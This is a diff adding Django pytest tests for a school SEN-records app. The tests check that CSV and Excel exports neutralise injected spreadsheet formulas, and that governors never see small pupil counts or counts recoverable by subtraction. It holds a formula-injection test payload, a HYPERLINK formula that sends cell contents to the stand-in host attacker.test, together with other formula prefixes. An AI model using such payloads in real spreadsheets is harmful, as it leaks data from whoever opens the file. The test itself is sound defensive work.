@@ -19,6 +19,7 @@ import contextlib
 import datetime as dt
 import io
 import re
+from pathlib import Path
 
 import lxml.html
 import pytest
@@ -344,3 +345,227 @@ def test_a_bad_date_already_stored_breaks_no_page_export_digest_or_calculator(ma
             except Exception as error:  # noqa: BLE001 - any exception is the failure being looked for
                 FAILURES.append(f"sencohub {' '.join(command)} with 9999-12-31 stored raised {error!r}")
     assert_none_answered_500()
+
+
+# ---- Exports never carry a live formula ---------------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://attacker.test/?"&A2,"Open")'
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+STARTS = ["+1+1 ", "-1+1 ", "@SUM(1+1) ", "\t=1+1 ", "\r=1+1 "]
+# Text fields that are codes, secrets or file names checked on the way in, never a person's free text.
+NOT_FREE_TEXT = {"password", "email", "prefix", "digest", "code", "urn", "upn", "year_group", "progress_stage",
+                 "task_id", "days", "state", "kind", "filename"}  # fmt: skip
+EXPORTS = {"register_export", "census_export", "compliance_export", "compliance_all_export", "workforce_export",
+           "workforce_aggregate", "provision_map_export"}  # fmt: skip
+XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+
+
+def arm_every_free_text_field(payload) -> int:
+    """Start every free-text field of every record of ours with a formula, as if typed by a person (a surname, a
+    class, a provision, an adviser's name typed by an LA officer, a training topic): `payload(i)` for the i-th field."""
+    from django.db.models import F, Value
+    from django.db.models.functions import Concat, Left
+
+    armed = 0
+    for model in apps.get_models():
+        if not model.__module__.startswith("sencohub."):
+            continue
+        for field in model._meta.concrete_fields:
+            if (not isinstance(field, (models.CharField, models.TextField)) or field.choices or field.primary_key
+                    or field.name in NOT_FREE_TEXT):  # fmt: skip
+                continue
+            value = Concat(Value(payload(armed)), F(field.name), output_field=models.TextField())
+            try:
+                with transaction.atomic():
+                    model.objects.update(**{field.name: Left(value, field.max_length) if field.max_length else value})
+            except IntegrityError:  # a unique name cut short to its length: the others still carry the formula
+                continue
+            armed += 1
+    return armed
+
+
+def spreadsheet_cells(content_type: str, body: bytes) -> list:
+    if content_type.startswith("text/csv"):
+        import csv
+
+        return [cell for row in csv.reader(io.StringIO(body.decode(), newline="")) for cell in row]
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(body))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    formulas = [f"{c.parent.title}!{c.coordinate}={c.value!r}" for c in cells if c.data_type == "f"]
+    assert not formulas, f"live formulas in an Excel download: {formulas[:5]}"
+    return [c.value for c in cells]
+
+
+def test_no_export_carries_a_live_formula_from_any_free_text_field(mapped, tmp_path):
+    world, clients, entries = mapped
+    exports = [e for e in entries if e.content_type.startswith(("text/csv", XLSX))]
+    assert EXPORTS <= {e.route.name.split(":")[-1] for e in exports}, "an export the test expects was not found in the map"
+    commands = [["export", "census", "--school", world.school.urn]] + [
+        ["export", "provision-map", "--school", world.school.urn, "--format", fmt, "--out", str(tmp_path / f"map.{fmt}")]
+        for fmt in ("csv", "xlsx")
+    ]
+    seen, problems = set(), []
+
+    def check(what, content_type, body):
+        for cell in spreadsheet_cells(content_type, body):
+            if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
+                problems.append(f"{what}: {cell[:60]!r}")
+            if isinstance(cell, str) and cell.startswith("'") and len(cell) > 1:
+                seen.add(cell[1])
+
+    for payload in (lambda i: HYPERLINK + " ", lambda i: STARTS[i % len(STARTS)]):
+        with rolled_back():
+            assert arm_every_free_text_field(payload) > 60
+            for entry in exports:
+                response = clients[entry.persona].get(entry.path)
+                assert response.status_code == 200, entry.path
+                check(f"{entry.persona} GET {entry.path}", response["Content-Type"], response.content)
+            for command in commands:
+                out = io.StringIO()
+                call_command(*command, stdout=out, stderr=io.StringIO())
+                if "--out" in command:
+                    check(" ".join(command), "text/csv" if command[-1].endswith("csv") else XLSX, Path(command[-1]).read_bytes())
+                else:
+                    check(" ".join(command), "text/csv", out.getvalue().encode())
+    assert not problems, f"{len(problems)} cells would run as formulas:\n" + "\n".join(problems[:40])
+    assert set(FORMULA_STARTS) <= seen, f"not every formula start reached an export: {seen}"
+
+
+# ---- Governors see no count from 1 to 4 -----------------------------------------------------------------------
+
+MONTHS = "January|February|March|April|May|June|July|August|September|October|November|December"
+# What reads as a number but is no count: dates, times, hours and other decimals, percentages.
+NOT_COUNTS = re.compile(rf"\d{{1,2}} (?:{MONTHS}) \d{{4}}|\d{{4}}-\d{{2}}-\d{{2}}|\d{{1,2}}:\d{{2}}|\d+\.\d+|\d+%")
+SMALL_COUNT = re.compile(r"(?<![\w.£/-])[1-4](?![\w.%/:])")
+
+
+def readable_text(content_type: str, body: bytes) -> str:
+    """What a person reads in a response: a page's main content, a PDF's or Word file's text, a table's cells."""
+    if content_type.startswith("text/html"):
+        page = lxml.html.fromstring(body)
+        for hidden in page.xpath("//script|//style"):
+            hidden.drop_tree()
+        main = page.find(".//main")
+        return (main if main is not None else page).text_content()
+    if content_type.startswith("application/pdf"):
+        from pypdf import PdfReader
+
+        return "\n".join(p.extract_text() for p in PdfReader(io.BytesIO(body)).pages)
+    if "wordprocessingml" in content_type:
+        from docx import Document
+
+        document = Document(io.BytesIO(body))
+        cells = [c.text for t in document.tables for row in t.rows for c in row.cells]
+        return "\n".join([p.text for p in document.paragraphs] + cells)
+    if content_type.startswith(("text/csv", XLSX)):
+        return "\n".join(str(c) for c in spreadsheet_cells(content_type, body) if c is not None)
+    return ""
+
+
+def small_counts(text: str) -> list[str]:
+    text = NOT_COUNTS.sub(" ", " ".join(text.split()))
+    return [text[max(0, m.start() - 50) : m.end() + 30] for m in SMALL_COUNT.finditer(text)]
+
+
+def test_a_governor_sees_no_count_from_1_to_4_on_anything_a_governor_can_open(mapped):
+    from decimal import Decimal
+
+    from django.test import Client
+    from django.utils import timezone
+
+    from sencohub.workforce.models import Appointment, TrainingAttendance, TrainingSession, WeekLog
+    from sencohub.workforce.timelog import academic_year_start, monday
+    from tests.factories import MembershipFactory, PupilFactory, SchoolFactory, UserFactory, put_on_register
+
+    world, clients, entries = mapped
+    problems, opened = [], set()
+    with rolled_back():
+        # A small school: 3 pupils with one need, 2 without; 2 weeks of the SENCo's time; 1 session, 2 staff there.
+        small = SchoolFactory(name="Wren Primary", trust=world.school.trust, local_authority=world.school.local_authority)
+        for _ in range(3):
+            put_on_register(PupilFactory(school=small), "K", "ASD")
+        PupilFactory.create_batch(2, school=small)
+        senco, teacher = (MembershipFactory(school=small, role=role).user for role in ("senco", "teacher"))
+        year = academic_year_start(timezone.localdate())
+        appointment = Appointment.objects.create(school=small, name="Wren Senco", user=senco, starts_on=dt.date(2020, 9, 1),
+                                                 protected_hours=Decimal(4))  # fmt: skip
+        for week in (1, 2):
+            WeekLog.objects.create(appointment=appointment, week_of=monday(year) + dt.timedelta(weeks=week), administration=Decimal(3))
+        session = TrainingSession.objects.create(school=small, topic="Autism", area_of_need="communication and interaction",
+                                                 held_on=year)  # fmt: skip
+        for person in (senco, teacher):
+            TrainingAttendance.objects.create(session=session, user=person, confidence_before=2, confidence_after=4)
+        governor = UserFactory(email="governor@guard.test")
+        for school in (small, world.school):
+            MembershipFactory(user=governor, school=school, role="governor")
+        client = Client(raise_request_exception=False)
+        client.force_login(governor)
+
+        paths = set()
+        for entry in entries:
+            for urn in (small.urn, world.school.urn) if "urn" in entry.kwargs else (None,):
+                paths.add(reverse(entry.route.name, kwargs=entry.kwargs | {"urn": urn}) if urn else entry.path)
+        for path in sorted(paths):
+            response = client.get(path)
+            if response.status_code != 200:
+                continue
+            opened.add(path)
+            for found in small_counts(readable_text(response["Content-Type"], response.content)):
+                problems.append(f"{path}: ...{found}...")
+    for urn in (small.urn, world.school.urn):
+        expected = {f"/schools/{urn}/figures/", f"/schools/{urn}/senco/governors/", f"/schools/{urn}/senco/governors.pdf",
+                    f"/schools/{urn}/senco/governors.docx"}  # fmt: skip
+        assert expected <= opened, f"the governor could not open {expected - opened}"
+    assert not problems, f"{len(problems)} counts from 1 to 4 shown to a governor:\n" + "\n".join(problems[:40])
+
+
+def shown_table(page: str, caption: str) -> dict:
+    """A rendered table's first two columns (label: the count as shown, an int or "c")."""
+    table = next(t for t in lxml.html.fromstring(page).xpath("//table") if caption in t.findtext("caption", ""))
+    rows = {}
+    for row in table.xpath("./tbody/tr"):
+        cells = [c.text_content().strip() for c in row.xpath("./th|./td")]
+        rows[cells[0]] = cells[1] if cells[1] == "c" else int(cells[1])
+    return rows
+
+
+def test_generated_cohorts_show_a_governor_no_small_count_and_none_that_subtraction_gives_away(mapped):
+    from tests.factories import MembershipFactory, PupilFactory, SchoolFactory, UserFactory, put_on_register
+
+    world, clients, entries = mapped
+    from django.test import Client
+
+    needs = ["ASD", "SLCN", "SEMH", "MLD", "SPLD", "HI", "PD"]
+
+    @settings(max_examples=6, deadline=None, database=None, derandomize=True, suppress_health_check=list(HealthCheck))
+    @given(st.lists(st.tuples(st.sampled_from(["K", "E"]), st.sampled_from(needs)), max_size=24), st.integers(0, 12))
+    def generated(on_register, without_sen):
+        with rolled_back():
+            school = SchoolFactory(name="Rowan Primary", trust=world.school.trust, local_authority=world.school.local_authority)
+            for provision, need in on_register:
+                put_on_register(PupilFactory(school=school), provision, need)
+            PupilFactory.create_batch(without_sen, school=school)
+            governor = UserFactory()
+            MembershipFactory(user=governor, school=school, role="governor")
+            client = Client()
+            client.force_login(governor)
+            pages = {path: client.get(path) for path in (f"/schools/{school.urn}/figures/", f"/schools/{school.urn}/senco/governors/",
+                                                         f"/schools/{school.urn}/senco/governors.docx")}  # fmt: skip
+            for path, response in pages.items():
+                assert response.status_code == 200, path
+                found = small_counts(readable_text(response["Content-Type"], response.content))
+                assert not found, f"{path} with {on_register}, {without_sen} without SEN: {found}"
+            page = pages[f"/schools/{school.urn}/figures/"].content.decode()
+            provision, areas = shown_table(page, "SEN provision"), shown_table(page, "Area of primary need")
+            sen = provision.pop("SEN (EHC plan or SEN support)")
+            provision.pop("All pupils")
+            for group in (provision, areas):
+                hidden = [label for label, n in group.items() if n == "c"]
+                if sen == "c" or not hidden:
+                    continue
+                rest = sen - sum(n for n in group.values() if n != "c")  # what subtracting from the shown total gives
+                assert len(hidden) >= 2 and rest >= 5 and rest > len(hidden), (on_register, without_sen, group, sen)
+
+    generated()
